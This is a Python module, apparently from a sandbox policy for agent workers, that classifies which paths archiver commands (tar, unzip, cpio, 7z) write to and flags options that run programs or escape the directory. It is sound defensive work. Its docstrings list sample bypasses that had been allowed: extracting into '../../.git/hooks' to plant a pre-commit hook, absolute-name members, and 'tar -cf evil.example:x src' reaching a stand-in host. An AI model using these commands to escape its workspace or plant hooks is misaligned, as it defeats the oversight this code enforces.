"""Where archivers write: the directory ``tar -x``, ``unzip``, ``cpio -i`` and ``7z x``
unpack into, the archive ``tar c/r/u`` and ``7z a`` write, the files tar writes by option.

An extraction is a :class:`~exomonad.policy.actions.WriteFile` of each directory it
writes into (tar's ``-C`` in every spelling, cumulative as tar reads them: ``-C a -C b``
is ``a/b``; unzip's ``-d``; cpio's ``-D``; 7z's ``-o``; else the working directory), so
the write rules judge ``tar -xf x.tar -C ../../.git/hooks`` as they judge ``cp`` there.
What the classifier cannot follow is :class:`~exomonad.policy.actions.Unknown`: members
kept with ``..`` or absolute names (``tar -P``, ``unzip -:``, ``cpio -i`` without
``--no-absolute-filenames``), renamed (``--transform``, bsdtar ``-s``) or put elsewhere
(``--one-top-level=DIR``), an option that runs a program (``-I``/``--use-compress-program``,
``--to-command``, ``--checkpoint-action=exec=``, ``-F``/``--info-script``, ``--rsh-command``,
unzip's and zip's ``-TT``), an option tar does not have, a word that may split into several.

Found as a worker: ``tar -xf x.tar --directory=../..``, ``-C../..`` and ``-C
../../.git/hooks`` (a ``pre-commit`` the lead's git ran), ``tar -xPf`` (a member
``../../README.md``), ``unzip -o x.zip -d ../../.git/hooks`` were allowed: only ``-C
DIR`` was read, and only against the state dir.

>>> from exomonad.policy.shell_lex import Word
>>> archive_writes("tar", [Word(t) for t in "-xf x.tar --directory=../..".split()], "/p/w/a")
[WriteFile(path='/p')]
>>> archive_writes("unzip", [Word(t) for t in "-o x.zip -d out".split()], "/w")
[WriteFile(path='/w/out')]
>>> archive_writes("tar", [Word(t) for t in "-tvf x.tar".split()], "/w")
[]
"""

from __future__ import annotations

import posixpath

from exomonad.policy.actions import Action, DeleteFile, Network, Unknown, WriteFile
from exomonad.policy.hosts import host_of
from exomonad.policy.shell_lex import Word
from exomonad.policy.shell_paths import resolve_path
from exomonad.policy.shell_reads import tree_root
from exomonad.policy.shell_wrap import OptSpec, long_option, word_set

__all__ = ["ARCHIVERS", "archive_writes", "remote_archive", "unpack_dirs"]

#: GNU tar 1.34's options (``tar --help``, with their aliases).
_GNU_TAR = OptSpec(
    short_flags="AcdrtuxGnSkUWOmpsMBiajJzZhPlRvwo?",
    short_arg="gCTXfFLbHIVKN",
    long_flags=word_set(
        "catenate concatenate create delete diff compare append test-label list update extract "
        "get check-device incremental no-check-device no-seek seek sparse exclude-backups "
        "exclude-caches exclude-caches-all exclude-caches-under exclude-vcs exclude-vcs-ignores "
        "no-null no-recursion no-unquote no-verbatim-files-from null verbatim-files-from "
        "recursion unquote anchored ignore-case no-anchored no-ignore-case no-wildcards "
        "no-wildcards-match-slash wildcards wildcards-match-slash keep-directory-symlink "
        "keep-newer-files keep-old-files no-overwrite-dir overwrite overwrite-dir "
        "recursive-unlink remove-files skip-old-files unlink-first verify ignore-command-error "
        "no-ignore-command-error to-stdout clamp-mtime delay-directory-restore touch "
        "no-delay-directory-restore no-same-owner no-same-permissions numeric-owner "
        "preserve-permissions same-permissions same-owner preserve-order same-order preserve "
        "acls no-acls no-selinux no-xattrs selinux xattrs force-local multi-volume "
        "read-full-records ignore-zeros old-archive portability posix auto-compress bzip2 xz "
        "lzip lzma lzop no-auto-compress zstd gzip gunzip ungzip compress uncompress "
        "hard-dereference dereference one-file-system absolute-names full-time check-links "
        "block-number show-defaults show-omitted-dirs show-snapshot-field-ranges "
        "show-transformed-names utc verbose interactive confirmation help restrict usage version "
        "ignore-failed-read"
    ),
    long_arg=word_set(
        "listed-incremental hole-detection level sparse-version add-file directory exclude "
        "exclude-ignore exclude-ignore-recursive exclude-tag exclude-tag-all exclude-tag-under "
        "files-from exclude-from to-command group group-map mode mtime owner owner-map sort "
        "xattrs-exclude xattrs-include file info-script new-volume-script tape-length "
        "rmt-command rsh-command volno-file blocking-factor record-size format pax-option "
        "label use-compress-program starting-file newer-mtime newer after-date suffix "
        "strip-components transform xform checkpoint-action index-file no-quote-chars "
        "quote-chars quoting-style warning"
    ),
    long_opt=word_set("occurrence one-top-level atime-preserve backup checkpoint totals"),
)
#: bsdtar's (libarchive): ``-s`` renames members, ``-I`` is ``-T``.
_BSD_TAR = OptSpec(
    short_flags="AcrtuxBajJkKlmnOopPqSUvwyzZhHLi",
    short_arg="bCfIsTX",
    long_flags=word_set(
        "absolute-paths insecure bzip2 gzip xz lzma lzip lzop lz4 zstd compress check-links "
        "chroot clear-nochange-fflags dereference exclude-vcs extract create list append update "
        "fast-read help keep-newer-files keep-old-files modification-time no-same-owner "
        "no-same-permissions numeric-owner null one-file-system posix preserve-permissions "
        "same-owner same-permissions to-stdout totals unlink unlink-first verbose version acls "
        "no-acls xattrs no-xattrs fflags no-fflags mac-metadata no-mac-metadata "
        "ignore-zeros nodump read-sparse no-read-sparse safe-writes no-safe-writes"
    ),
    long_arg=word_set(
        "cd directory file files-from exclude exclude-from include format gid gname uid uname "
        "newer newer-mtime newer-than newer-mtime-than older older-mtime older-than "
        "older-mtime-than options passphrase strip-components use-compress-program"
    ),
)
#: Short keys by the long option they spell (the rest are read by their letter).
_GNU_SHORT = {"A": "catenate", "c": "create", "r": "append", "u": "update", "x": "extract",
              "t": "list", "d": "diff", "C": "directory", "f": "file", "P": "absolute-names",
              "I": "use-compress-program", "F": "info-script",
              "g": "listed-incremental"}  # fmt: skip
_BSD_SHORT = {"c": "create", "r": "append", "u": "update", "x": "extract", "t": "list",
              "C": "directory", "f": "file", "P": "absolute-names", "s": "transform"}  # fmt: skip
#: Aliases, by the name the rules below use.
_ALIASES = {"get": "extract", "concatenate": "catenate", "compare": "diff", "xform": "transform",
            "new-volume-script": "info-script", "cd": "directory", "insecure": "absolute-names",
            "absolute-paths": "absolute-names"}  # fmt: skip
_TARS = {"tar": (_GNU_TAR, _GNU_SHORT), "gtar": (_GNU_TAR, _GNU_SHORT),
         "bsdtar": (_BSD_TAR, _BSD_SHORT)}  # fmt: skip
#: tar options that run a program (whatever the mode).
_TAR_RUNS = frozenset(
    {"use-compress-program", "to-command", "info-script", "rsh-command", "rmt-command"}
)
#: tar modes that write the archive (``--delete`` rewrites it).
_TAR_PACKS = frozenset({"create", "append", "update", "catenate", "delete"})
#: tar options naming a file it writes.
_TAR_FILES = frozenset({"index-file", "listed-incremental", "volno-file"})

#: Every program :func:`archive_writes` knows.
ARCHIVERS = frozenset({*_TARS, "unzip", "cpio", "7z", "7za", "7zr"})

Event = tuple[str, Word | None]


def _tar_events(args: list[Word], spec: OptSpec, short: dict[str, str]) -> list[Event] | None:
    """tar's options and operands in order, each option by its long name (operands as
    ``""``); None if one cannot be read (unknown, ambiguous, a word that may split)."""
    events: list[Event] = []

    def name(c: str) -> str:
        return short.get(c, c)

    words = list(args)
    if any(w.glob or (w.dynamic and not w.quoted) for w in words):
        return None
    if words and not words[0].text.startswith("-"):  # the old key: tar xfC x.tar dir
        key, words = words[0].text, words[1:]
        for c in key:
            if c in spec.short_arg and words:
                events.append((name(c), words[0]))
                words = words[1:]
            elif c in spec.short_flags:
                events.append((name(c), None))
            else:
                return None
    i = 0
    while i < len(words):
        text = words[i].text
        if text == "--":
            return events + [("", w) for w in words[i + 1 :]]
        if not text.startswith("-") or text == "-":
            events.append(("", words[i]))
        elif text.startswith("--"):
            opt, eq, value = text[2:].partition("=")
            full = long_option(opt, spec)
            if full is None or (eq and full in spec.long_flags):
                return None
            if full in spec.long_arg and not eq:
                if i + 1 >= len(words):
                    return None
                i += 1
                events.append((_ALIASES.get(full, full), words[i]))
            else:
                events.append((_ALIASES.get(full, full), Word(value, words[i].dynamic) if eq
                               else None))  # fmt: skip
        else:
            for j, c in enumerate(text[1:], 2):
                if c in spec.short_flags:
                    events.append((name(c), None))
                    continue
                if c not in spec.short_arg:
                    return None
                if j < len(text):
                    events.append((name(c), Word(text[j:], words[i].dynamic)))
                elif i + 1 < len(words):
                    i += 1
                    events.append((name(c), words[i]))
                else:
                    return None
                break
        i += 1
    return events


def _tar(name: str, args: list[Word], cwd: str | None) -> list[Action]:
    spec, short = _TARS[name]
    events = _tar_events(args, spec, short)
    raw = " ".join((name, *(w.text for w in args)))
    if events is None:
        return [Unknown(f"{name}: options that cannot be read exactly: {raw}")]
    keys = {k for k, _ in events}
    runs = keys & _TAR_RUNS or any(
        k == "checkpoint-action" and (v is None or v.dynamic or "exec" in v.text) for k, v in events
    )
    if runs:
        return [Unknown(f"{name} runs a program: {raw}")]
    out: list[Action] = []
    if "extract" in keys:
        if keys & {"absolute-names", "transform"} or any(
            k == "one-top-level" and v is not None for k, v in events
        ):
            return [Unknown(f"{name} -x may write outside its directory: {raw}")]
        out += [WriteFile(d) for d in _tar_dirs(events, cwd)]
    archive = next((v for k, v in reversed(events) if k == "file"), None)
    host = remote_archive(archive.text) if archive and "force-local" not in keys else None
    if host is not None:  # GNU tar reaches it through rsh and rmt, reading or writing
        return [*out, Network(host or None)]
    if keys & _TAR_PACKS and archive is not None and archive.text != "-":
        out.append(WriteFile(resolve_path(cwd, archive)))
    out += [WriteFile(resolve_path(cwd, v)) for k, v in events if k in _TAR_FILES and v]
    if "remove-files" in keys:
        out += [
            DeleteFile(resolve_path(base, w), recursive=True) for base, w in _operands(events, cwd)
        ]
    return out


def remote_archive(name: str) -> str | None:
    """The host of a GNU tar archive name ``[USER@]HOST:FILE`` (a colon with no ``/``
    before it), which tar looks up and reaches through ``rsh`` and ``rmt`` unless
    ``--force-local``; ``""`` when that host cannot be read; None for a local name.
    Found probing: ``tar -cf evil.example:x src`` (judged as writing a local file) looked
    ``evil.example`` up, and ``TAPE=`` names the archive when ``-f`` does not.

    >>> remote_archive("u@evil.example:/x.tar"), remote_archive("./a:b"), remote_archive("a.tar")
    ('evil.example', None, None)
    """
    colon = name.find(":")
    if colon <= 0 or "/" in name[:colon]:
        return None
    return host_of(name[:colon].rpartition("@")[2]) or ""


def _chain(events: list[Event], cwd: str | None) -> list[tuple[str | None, Event]]:
    """Each event with the directory tar is in when it reads it (``-C`` is cumulative)."""
    base, seen = cwd, []
    for key, value in events:
        if key == "directory" and value is not None:
            base = tree_root(base, value) if base is not None else None
        seen.append((base, (key, value)))
    return seen


def _operands(events: list[Event], cwd: str | None) -> list[tuple[str | None, Word]]:
    return [(base, v) for base, (k, v) in _chain(events, cwd) if k == "" and v is not None]


def _tar_dirs(events: list[Event], cwd: str | None) -> list[str | None]:
    """Where ``tar -x`` writes: every ``-C`` directory, and the working directory when
    there is none or a member is named before the first."""
    chain = _chain(events, cwd)
    dirs = [base for base, (k, _) in chain if k == "directory"]
    first = next((n for n, (_, (k, _)) in enumerate(chain) if k == "directory"), len(chain))
    if not dirs or any(k == "" for _, (k, _) in chain[:first]):
        dirs.insert(0, cwd)
    return list(dict.fromkeys(dirs))


def _unzip(args: list[Word], cwd: str | None) -> list[Action]:
    """``unzip [-opts] ZIP [MEMBERS] [-x XLIST] [-d DIR]``: every DIR (else the cwd); ``-:``
    keeps ``..`` in member names; ``-p``/``-l``/``-c``/``-t``/``-v``/``-z`` write no file."""
    raw = " ".join(("unzip", *(w.text for w in args)))
    dirs: list[Word | None] = []
    listing = False
    i = 0
    while i < len(args):
        w = args[i]
        if w.glob or (w.dynamic and not w.quoted):
            return [Unknown(f"unzip: words that cannot be read exactly: {raw}")]
        letters = w.text[1:] if w.text[:1] == "-" else ""
        for j, c in enumerate(letters, 1):
            if c == ":":
                return [Unknown(f"unzip -: writes members named ../x outside: {raw}")]
            listing = listing or c in "plctvzZ"
            if c in "dP":  # a value: the rest of the word, or the next one
                value = Word(letters[j:], w.dynamic) if letters[j:] else None
                if value is None and i + 1 < len(args):
                    i += 1
                    value = args[i]
                if c == "d":
                    dirs.append(value)
                break
        i += 1
    if listing:
        return []
    return [WriteFile(resolve_path(cwd, d) if d else None) for d in dirs] or [WriteFile(cwd)]


def _cpio(args: list[Word], cwd: str | None) -> list[Action]:
    """``cpio -i``: into ``-D DIR`` (else the cwd), and only with ``--no-absolute-filenames``
    (else a member ``/x`` or ``../x`` is written where it says); ``cpio -p DIR``: DIR."""
    raw = " ".join(("cpio", *(w.text for w in args)))
    texts = [w.text for w in args]
    short = "".join(t[1:] for t in texts if t[:1] == "-" and t[1:2] != "-")
    if "p" in short or "--pass-through" in texts:  # copies into the directory it is given
        dest = [w for w in args if not w.text.startswith("-")][-1:]
        return [WriteFile(resolve_path(cwd, w)) for w in dest] or [WriteFile(None)]
    if not ("i" in short or any(t.startswith("--extract") for t in texts)):
        return []  # -o writes its archive to stdout
    if "--no-absolute-filenames" not in texts:
        return [Unknown(f"cpio -i keeps absolute and .. member names: {raw}")]
    where: Word | None = Word(".")
    for k, text in enumerate(texts):
        if text.startswith("--directory="):
            where = Word(text[12:], args[k].dynamic)
        elif text in ("-D", "--directory"):
            where = args[k + 1] if k + 1 < len(args) else None
        elif text.startswith("-D"):
            where = Word(text[2:], args[k].dynamic)
    return [WriteFile(resolve_path(cwd, where) if where else None)]


def _sevenzip(args: list[Word], cwd: str | None) -> list[Action]:
    """``7z x|e ARCHIVE [-oDIR]``: DIR (else the cwd), ``-spf`` (absolute names): Unknown;
    ``7z a|u|d|rn ARCHIVE``: the archive."""
    positionals = [w for w in args if not w.text.startswith("-")]
    command = positionals[0].text if positionals else ""
    if command in ("x", "e"):
        if any(w.text.startswith("-spf") or (w.dynamic and not w.quoted) for w in args):
            return [Unknown("7z may write outside its directory: " + " ".join(
                w.text for w in args))]  # fmt: skip
        out = [Word(w.text[2:], w.dynamic) for w in args if w.text.startswith("-o")]
        return [WriteFile(resolve_path(cwd, w)) for w in out] or [WriteFile(cwd)]
    if command in ("a", "u", "d", "rn") and len(positionals) > 1:
        return [WriteFile(resolve_path(cwd, positionals[1]))]
    return []


def archive_writes(name: str, args: list[Word], cwd: str | None) -> list[Action]:
    """What archiver ``name ARGS`` writes (empty: nothing, or not an archiver)."""
    if name in _TARS:
        return _tar(name, args, cwd)
    if name == "unzip":
        return _unzip(args, cwd)
    if name == "cpio":
        return _cpio(args, cwd)
    if name in ("7z", "7za", "7zr"):
        return _sevenzip(args, cwd)
    return []


def unpack_dirs(program: str, argv: list[str], cwd: str | None) -> list[str]:
    """The known directories ``program ARGV`` unpacks into (for the state-dir rule).

    >>> unpack_dirs("tar", ["-xf", "x.tar", "-C../.."], "/p/.worktrees/w1")
    ['/p']
    """
    found = archive_writes(posixpath.basename(program), [Word(w) for w in argv], cwd)
    return [a.path for a in found if isinstance(a, WriteFile) and a.path is not None]
